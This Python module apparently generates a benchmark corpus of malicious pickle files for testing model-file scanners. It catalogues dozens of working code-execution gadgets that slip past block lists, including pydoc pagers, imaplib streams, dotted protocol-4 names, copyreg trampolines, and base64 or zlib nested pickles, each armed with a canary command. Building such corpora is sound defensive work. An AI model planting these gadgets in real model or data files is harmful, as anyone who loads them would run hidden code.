"""Pickle samples for classes 1 (allowlist), 2 (resolution) and 4 (nested payloads).

Each writer produces bytes that the stock loader (pickle.load, or the loader named in the spec)
executes; the only effect is creating the canary marker.
"""

from __future__ import annotations

import base64
import functools
import io
import marshal
import shutil
import zlib
from pathlib import Path

from bench.fresh_corpus._ops import P2, P4, Call, call, dumps, glob, lit, s, sglob
from bench.fresh_corpus._spec import Spec, put, python, shell

PICKLESCAN_ADVISORIES = "https://github.com/mmaitre314/picklescan/security/advisories"
MODELSCAN_338 = "https://github.com/protectai/modelscan/issues/338"
PICKLESCAN_66 = "https://github.com/mmaitre314/picklescan/issues/66"
MODELAUDIT_1061 = "https://github.com/promptfoo/modelaudit/pull/1061"


def _pkl(folder: Path, data: bytes, name: str = "model.pkl") -> Path:
    return put(folder, name, data)


# --- class 1: callables a name list does not know are dangerous -------------------------------


def cprofile_run(f: Path, m: str) -> Path:
    import cProfile

    return _pkl(f, dumps(Call(cProfile.run, python(m))))


def runpy_run_code(f: Path, m: str) -> Path:
    import runpy

    return _pkl(f, dumps(Call(runpy._run_code, python(m), {})))  # type: ignore[attr-defined]


def typing_get_type_hints(f: Path, m: str) -> Path:
    expression = f"__import__('os').system({shell(m)!r})"
    namespace = (
        call(glob("types", "SimpleNamespace"))
        + b"}"
        + s("__annotations__")
        + b"}"
        + s("x")
        + s(expression)
        + b"ssb"
    )
    return _pkl(f, P2 + glob("typing", "get_type_hints") + namespace + b"\x85R.")


def torch_collect_env_run(f: Path, m: str) -> Path:
    return _pkl(f, P2 + call(glob("torch.utils.collect_env", "run"), s(shell(m))) + b".", "pytorch_model.bin")


def torch_fx_exec_with_source(f: Path, m: str) -> Path:
    return _pkl(f, P2 + call(glob("torch.fx.graph_module", "_exec_with_source"), s(python(m)), b"}") + b".")


def pydoc_pipepager(f: Path, m: str) -> Path:
    return _pkl(f, P2 + call(glob("pydoc", "pipepager"), s("x"), s(shell(m))) + b".")


def pydoc_tempfilepager(f: Path, m: str) -> Path:
    return _pkl(f, P2 + call(glob("pydoc", "tempfilepager"), s("x"), s(shell(m) + " ;true")) + b".")


def imaplib_stream(f: Path, m: str) -> Path:
    return _pkl(f, P2 + call(glob("imaplib", "IMAP4_stream"), s(shell(m))) + b".")


def os_spawnv(f: Path, m: str) -> Path:
    touch = shutil.which("touch") or "/usr/bin/touch"
    return _pkl(f, P2 + call(glob("os", "spawnv"), b"K\x00", s(touch), lit(["touch", m])) + b".")


def multiprocessing_spawnv_passfds(f: Path, m: str) -> Path:
    touch = shutil.which("touch") or "/usr/bin/touch"
    return _pkl(
        f,
        P2
        + call(glob("multiprocessing.util", "spawnv_passfds"), lit(touch.encode()), lit(["touch", m]), b")")
        + b".",
    )


def inst_logging_filehandler(f: Path, m: str) -> Path:
    return _pkl(f, b"(V" + m.encode() + b"\nilogging\nFileHandler\n.")


def numpy_savetxt(f: Path, m: str) -> Path:
    return _pkl(f, P2 + call(glob("numpy", "savetxt"), s(m), lit([[1.0]])) + b".")


def torch_save_to_path(f: Path, m: str) -> Path:
    return _pkl(f, P2 + call(glob("torch", "save"), b"K\x00", s(m)) + b".", "model.pt")


def operator_methodcaller(f: Path, m: str) -> Path:
    caller = call(glob("operator", "methodcaller"), s("system"), s(shell(m)))
    module = call(glob("importlib", "import_module"), s("os"))
    return _pkl(f, P2 + caller + module + b"\x85R.")


def functools_reduce_getattr(f: Path, m: str) -> Path:
    module = call(glob("importlib", "import_module"), s("os"))
    function = call(glob("_functools", "reduce"), glob("builtins", "getattr"), lit(["system"]), module)
    return _pkl(f, P2 + function + s(shell(m)) + b"\x85R.")


def zipfile_write_mode(f: Path, m: str) -> Path:
    return _pkl(f, P2 + call(glob("zipfile", "ZipFile"), s(m), s("w")) + b".")


def code_interpreter_runsource(f: Path, m: str) -> Path:
    interpreter = call(glob("code", "InteractiveInterpreter"))
    return _pkl(
        f, P4 + sglob("code", "InteractiveInterpreter.runsource") + b"(" + interpreter + s(python(m)) + b"tR."
    )


def defaultdict_factory(f: Path, m: str) -> Path:
    """`collections.defaultdict(factory)` then a missing-key lookup calls the factory: a callback sink."""
    factory = call(glob("functools", "partial"), glob("os", "system"), s(shell(m)))
    table = call(glob("collections", "defaultdict"), factory)
    return _pkl(f, P2 + call(glob("operator", "getitem"), table, s("missing")) + b".")


# --- class 2: the dangerous function is reached through another path -------------------------


def pydoc_locate(f: Path, m: str) -> Path:
    return _pkl(f, P2 + call(glob("pydoc", "locate"), s("os.system")) + s(shell(m)) + b"\x85R.")


def site_builtins_dotted(f: Path, m: str) -> Path:
    return _pkl(f, P4 + sglob("site", "builtins.exec") + s(python(m)) + b"\x85R.")


def torch_serialization_os_dotted(f: Path, m: str) -> Path:
    return _pkl(
        f, P4 + sglob("torch.serialization", "os.system") + s(shell(m)) + b"\x85R.", "pytorch_model.bin"
    )


def sys_modules_getitem(f: Path, m: str) -> Path:
    module = call(glob("operator", "getitem"), glob("sys", "modules"), s("posix"))
    function = call(glob("builtins", "getattr"), module, s("system"))
    return _pkl(f, P2 + function + s(shell(m)) + b"\x85R.")


def logging_dictconfig_factory(f: Path, m: str) -> Path:
    config = {"version": 1, "handlers": {"h": {"()": "subprocess.check_call", "args": ["touch", m]}}}
    return _pkl(f, P2 + call(glob("logging.config", "dictConfig"), lit(config)) + b".")


def io_open_alias(f: Path, m: str) -> Path:
    return _pkl(f, P2 + call(glob("io", "open"), s(m), s("w")) + b".")


def sklearn_reexported_import_module(f: Path, m: str) -> Path:
    module = call(glob("sklearn.utils.discovery", "import_module"), s("subprocess"))
    return _pkl(
        f,
        P2 + call(glob("builtins", "getattr"), module, s("getoutput")) + s(shell(m)) + b"\x85R.",
        "model.joblib",
    )


def scipy_reexported_import_module(f: Path, m: str) -> Path:
    module = call(glob("scipy._lib.deprecation", "import_module"), s("posix"))
    return _pkl(f, P2 + call(glob("builtins", "getattr"), module, s("system")) + s(shell(m)) + b"\x85R.")


def pathlib_touch_method(f: Path, m: str) -> Path:
    path = call(glob("pathlib", "PosixPath"), s(m))
    return _pkl(f, P4 + sglob("pathlib", "Path.touch") + path + b"\x85R.")


def copyreg_reconstructor_init(f: Path, m: str) -> Path:
    """copyreg._reconstructor(cls, base, state) runs base.__init__(obj, state): a constructor as a trampoline."""
    return _pkl(
        f,
        P2
        + call(
            glob("copyreg", "_reconstructor"),
            glob("subprocess", "Popen"),
            glob("subprocess", "Popen"),
            lit(["touch", m]),
        )
        + b".",
    )


# --- class 4: a second payload carried as data ---------------------------------------------


def _inner(m: str) -> bytes:
    import os

    return dumps(Call(os.system, shell(m)), protocol=2)


def marshal_function(f: Path, m: str) -> Path:
    code = marshal.dumps(compile(python(m), "<weights>", "exec"))
    function = call(glob("types", "FunctionType"), call(glob("marshal", "loads"), lit(code)), b"}")
    return _pkl(f, P2 + function + b")R.")


def pickle_loads_base64(f: Path, m: str) -> Path:
    text = base64.b64encode(_inner(m)).decode()
    return _pkl(f, P2 + call(glob("pickle", "loads"), call(glob("base64", "b64decode"), s(text))) + b".")


def pickle_loads_zlib(f: Path, m: str) -> Path:
    return _pkl(
        f,
        P2
        + call(glob("_pickle", "loads"), call(glob("zlib", "decompress"), lit(zlib.compress(_inner(m)))))
        + b".",
    )


def numpy_load_bytesio(f: Path, m: str) -> Path:
    import numpy as np

    buffer = io.BytesIO()
    np.save(buffer, np.array([Call(__import__("os").system, shell(m))], dtype=object), allow_pickle=True)
    loader = functools.partial(np.load, allow_pickle=True)
    return _pkl(f, dumps(Call(loader, io.BytesIO(buffer.getvalue()))))


def torch_load_bytesio(f: Path, m: str) -> Path:
    import torch

    buffer = io.BytesIO()
    torch.save({"w": torch.zeros(1), "hook": Call(__import__("os").system, shell(m))}, buffer)
    loader = functools.partial(torch.load, weights_only=False)
    return _pkl(f, dumps(Call(loader, io.BytesIO(buffer.getvalue()))), "pytorch_model.bin")


def joblib_load_bytesio(f: Path, m: str) -> Path:
    import joblib

    buffer = io.BytesIO()
    joblib.dump({"hook": Call(__import__("os").system, shell(m))}, buffer, compress=("gzip", 3))
    return _pkl(f, dumps(Call(joblib.load, io.BytesIO(buffer.getvalue()))), "model.joblib")


def pandas_read_pickle(f: Path, m: str) -> Path:
    return _pkl(
        f, P2 + call(glob("pandas", "read_pickle"), call(glob("_io", "BytesIO"), lit(_inner(m)))) + b"."
    )


def dill_loads(f: Path, m: str) -> Path:
    return _pkl(f, P2 + call(glob("dill", "loads"), lit(_inner(m))) + b".")


def fx_graph_module_code(f: Path, m: str) -> Path:
    from torch.fx.graph_module import reduce_graph_module

    body = {"_code": f"\n{python(m)}\ndef forward(self, x):\n    return x\n", "training": False}
    return _pkl(f, dumps(Call(reduce_graph_module, body, "import torch\n")), "model.pt")


def torch_package_module(f: Path, m: str) -> Path:
    from torch.package import PackageExporter

    path = f / "model.pt"
    with PackageExporter(str(path)) as exporter:
        exporter.save_source_string("fresh_helper", f"{python(m)}\nclass Head:\n    pass\n")
        exporter.save_binary("model", "model.pkl", P2 + glob("fresh_helper", "Head") + b")\x81.")
    return path


def pickle_unpickler_method(f: Path, m: str) -> Path:
    """`pickle._Unpickler(BytesIO(b)).load()` through the pure-Python unpickler class and a bound method."""
    unpickler = call(glob("pickle", "_Unpickler"), call(glob("_io", "BytesIO"), lit(_inner(m))))
    return _pkl(f, P4 + sglob("pickle", "_Unpickler.load") + unpickler + b"\x85R.")


def _ref(path: str) -> str:
    return f"loader study: {path}"


SPECS: list[Spec] = [
    # class 1
    Spec(
        "cprofile-run",
        1,
        "cProfile.run(code) executes a source string (module twin of profile.run)",
        "https://github.com/protectai/modelscan/pull/313",
        "pickle",
        cprofile_run,
    ),
    Spec(
        "runpy-run-code",
        1,
        "runpy._run_code(source, {}) is an exec behind a private name",
        _ref("runpy.py:_run_code"),
        "pickle",
        runpy_run_code,
    ),
    Spec(
        "typing-get-type-hints",
        1,
        "typing.get_type_hints evaluates a string annotation set by BUILD on a SimpleNamespace",
        _ref("typing.py:get_type_hints/ForwardRef._evaluate"),
        "pickle",
        typing_get_type_hints,
    ),
    Spec(
        "torch-collect-env-run",
        1,
        "torch.utils.collect_env.run(cmd) is Popen(shell=True)",
        MODELSCAN_338,
        "pickle",
        torch_collect_env_run,
    ),
    Spec(
        "torch-fx-exec-with-source",
        1,
        "torch.fx.graph_module._exec_with_source(src, {}) compiles and execs",
        _ref("torch/fx/graph_module.py:_exec_with_source"),
        "pickle",
        torch_fx_exec_with_source,
    ),
    Spec(
        "pydoc-pipepager",
        1,
        "pydoc.pipepager(text, cmd) pipes into a shell command",
        _ref("pydoc.py:pipepager"),
        "pickle",
        pydoc_pipepager,
    ),
    Spec(
        "pydoc-tempfilepager",
        1,
        "pydoc.tempfilepager(text, cmd) runs os.system(cmd + file)",
        _ref("pydoc.py:tempfilepager"),
        "pickle",
        pydoc_tempfilepager,
    ),
    Spec(
        "imaplib-stream",
        1,
        "imaplib.IMAP4_stream(cmd) spawns its 'server' with a shell",
        _ref("imaplib.py:IMAP4_stream.open"),
        "pickle",
        imaplib_stream,
    ),
    Spec(
        "os-spawnv",
        1,
        "os.spawnv(P_WAIT, path, argv): a process spawn outside system/popen/subprocess",
        _ref("os.py:spawnv"),
        "pickle",
        os_spawnv,
    ),
    Spec(
        "multiprocessing-spawnv-passfds",
        1,
        "multiprocessing.util.spawnv_passfds forks and execs a program",
        MODELSCAN_338,
        "pickle",
        multiprocessing_spawnv_passfds,
    ),
    Spec(
        "inst-logging-filehandler",
        1,
        "INST builds logging.FileHandler(path): the constructor creates the file",
        _ref("logging/__init__.py:FileHandler.__init__"),
        "pickle",
        inst_logging_filehandler,
    ),
    Spec(
        "numpy-savetxt",
        1,
        "numpy.savetxt(path, X) writes an arbitrary file",
        _ref("numpy/lib/_npyio_impl.py:savetxt"),
        "pickle",
        numpy_savetxt,
    ),
    Spec(
        "torch-save-to-path",
        1,
        "torch.save(obj, path) called at load time writes an arbitrary file",
        _ref("torch/serialization.py:save"),
        "torch",
        torch_save_to_path,
    ),
    Spec(
        "operator-methodcaller",
        1,
        "operator.methodcaller('system', cmd) applied to importlib.import_module('os')",
        PICKLESCAN_66,
        "pickle",
        operator_methodcaller,
    ),
    Spec(
        "functools-reduce-getattr",
        1,
        "_functools.reduce(getattr, ['system'], os) computes the callable",
        MODELAUDIT_1061,
        "pickle",
        functools_reduce_getattr,
    ),
    Spec(
        "zipfile-write-mode",
        1,
        "zipfile.ZipFile(path, 'w') creates/truncates a file on construction",
        _ref("zipfile/__init__.py:ZipFile.__init__"),
        "pickle",
        zipfile_write_mode,
    ),
    Spec(
        "code-interpreter-runsource",
        1,
        "code.InteractiveInterpreter.runsource(instance, src) as an unbound method",
        "https://github.com/protectai/modelscan/pull/313",
        "pickle",
        code_interpreter_runsource,
    ),
    Spec(
        "defaultdict-factory-callback",
        1,
        "defaultdict(partial(os.system, cmd))['missing'] runs the factory",
        MODELAUDIT_1061,
        "pickle",
        defaultdict_factory,
    ),
    # class 2
    Spec(
        "pydoc-locate",
        2,
        "pydoc.locate('os.system') resolves a dotted string to the function",
        PICKLESCAN_66,
        "pickle",
        pydoc_locate,
    ),
    Spec(
        "site-builtins-dotted",
        2,
        "protocol-4 dotted name site.builtins.exec: site's module attribute is builtins",
        _ref("pickle.py:_getattribute (dotted names at protocol 4)"),
        "pickle",
        site_builtins_dotted,
    ),
    Spec(
        "torch-serialization-os-dotted",
        2,
        "torch.serialization.os.system via a dotted STACK_GLOBAL",
        _ref("pickle.py:find_class"),
        "torch",
        torch_serialization_os_dotted,
    ),
    Spec(
        "sys-modules-getitem",
        2,
        "operator.getitem(sys.modules, 'posix') then getattr(..., 'system')",
        PICKLESCAN_66,
        "pickle",
        sys_modules_getitem,
    ),
    Spec(
        "logging-dictconfig-factory",
        2,
        "logging.config.dictConfig resolves a '()' factory string to subprocess.check_call",
        _ref("logging/config.py:DictConfigurator.configure_handler"),
        "pickle",
        logging_dictconfig_factory,
    ),
    Spec(
        "io-open-alias",
        2,
        "io.open is builtins.open under another module path; opens the marker for writing",
        _ref("io.py (open re-exported from _io)"),
        "pickle",
        io_open_alias,
    ),
    Spec(
        "sklearn-reexported-import-module",
        2,
        "sklearn.utils.discovery.import_module is importlib.import_module re-exported",
        PICKLESCAN_66,
        "joblib",
        sklearn_reexported_import_module,
    ),
    Spec(
        "scipy-reexported-import-module",
        2,
        "scipy._lib.deprecation.import_module is importlib.import_module re-exported",
        PICKLESCAN_66,
        "pickle",
        scipy_reexported_import_module,
    ),
    Spec(
        "pathlib-touch-method",
        2,
        "pathlib.Path.touch on a PosixPath: a safe-looking class whose method writes files",
        _ref("pathlib.py:Path.touch"),
        "pickle",
        pathlib_touch_method,
    ),
    Spec(
        "copyreg-reconstructor-init",
        2,
        "copyreg._reconstructor(Popen, Popen, argv) runs Popen.__init__ via the copyreg helper",
        _ref("copyreg.py:_reconstructor"),
        "pickle",
        copyreg_reconstructor_init,
    ),
    # class 4
    Spec(
        "marshal-function",
        4,
        "types.FunctionType(marshal.loads(code), {})() runs marshalled bytecode",
        "https://github.com/mmaitre314/picklescan/pull/74",
        "pickle",
        marshal_function,
    ),
    Spec(
        "pickle-loads-base64",
        4,
        "pickle.loads(base64.b64decode(text)): the inner pickle is base64 text",
        "https://github.com/protectai/modelscan/issues/267",
        "pickle",
        pickle_loads_base64,
    ),
    Spec(
        "pickle-loads-zlib",
        4,
        "_pickle.loads(zlib.decompress(bytes)): the inner pickle is compressed",
        "https://github.com/protectai/modelscan/issues/267",
        "pickle",
        pickle_loads_zlib,
    ),
    Spec(
        "numpy-load-bytesio",
        4,
        "partial(numpy.load, allow_pickle=True)(BytesIO(npy)) with an object array inside",
        _ref("numpy/lib/_npyio_impl.py:load"),
        "pickle",
        numpy_load_bytesio,
    ),
    Spec(
        "torch-load-bytesio",
        4,
        "partial(torch.load, weights_only=False)(BytesIO(zip)) loads an in-memory checkpoint",
        _ref("torch/serialization.py:load"),
        "torch",
        torch_load_bytesio,
    ),
    Spec(
        "joblib-load-bytesio",
        4,
        "joblib.load(BytesIO(gzip joblib)) nested inside a plain pickle",
        _ref("joblib/numpy_pickle.py:load"),
        "joblib",
        joblib_load_bytesio,
    ),
    Spec(
        "pandas-read-pickle",
        4,
        "pandas.read_pickle(BytesIO(inner))",
        MODELSCAN_338,
        "pickle",
        pandas_read_pickle,
    ),
    Spec(
        "dill-loads",
        4,
        "dill.loads(inner) (dill is a pickle superset)",
        _ref("dill/_dill.py:loads"),
        "pickle",
        dill_loads,
    ),
    Spec(
        "fx-graph-module-code",
        4,
        "torch.fx reduce_graph_module with injected statements in the body's _code",
        _ref("torch/fx/graph_module.py:reduce_graph_module/_forward_from_src"),
        "torch",
        fx_graph_module_code,
    ),
    Spec(
        "torch-package-module",
        4,
        "torch.package archive whose pickle imports a packaged module with top-level code",
        _ref("torch/package/package_importer.py:load_pickle"),
        "torch-package",
        torch_package_module,
    ),
    Spec(
        "pickle-unpickler-method",
        4,
        "pickle._Unpickler(BytesIO(inner)).load via a dotted unbound method",
        _ref("pickle.py:_Unpickler.load"),
        "pickle",
        pickle_unpickler_method,
    ),
]
